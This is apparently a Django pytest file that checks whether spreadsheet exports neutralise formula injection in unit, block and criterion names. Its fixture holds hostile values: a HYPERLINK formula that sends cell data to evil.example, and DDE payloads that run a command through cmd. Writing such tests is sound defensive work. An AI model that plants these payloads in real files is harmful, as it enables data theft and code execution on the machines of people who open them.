"""Workbooks built from user text never hold a formula (formula injection).

A unit name, block name or criterion title typed as `=HYPERLINK(...)` must come out of every
export as the same text, in a text cell, not as a formula Excel would evaluate.
"""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from campaigns.models import Criterion

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def hostile(world):
    world.block.name = EVIL
    world.block.save()
    world.member_unit.name = "=1+2"
    world.member_unit.save()
    criterion = Criterion.objects.get(scale__term=world.term, code="1")
    criterion.title = "=cmd|' /C calc'!A0"
    criterion.guidance = "@SUM(1+1)*cmd|' /C calc'!A0"
    criterion.save()
    return world


def _cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_text_only(content: bytes, *expected: str) -> None:
    cells = _cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    for text in expected:
        assert text in values


@pytest.mark.parametrize("name", ["documents:ranking_xlsx", "documents:matrix_xlsx"])
def test_ranking_exports_write_user_text_as_text(hostile, clients, name):
    term = hostile.term
    response = clients["leader"].get(reverse(name, args=[term.block_id, term.year]))
    assert response.status_code == 200
    _assert_text_only(response.content, EVIL, "=1+2")


def test_scale_export_writes_titles_as_text(hostile, clients):
    term = hostile.term
    response = clients["leader"].get(
        reverse("campaigns:scale_export", args=[term.block_id, term.year])
    )
    assert response.status_code == 200
    _assert_text_only(response.content, "=cmd|' /C calc'!A0")
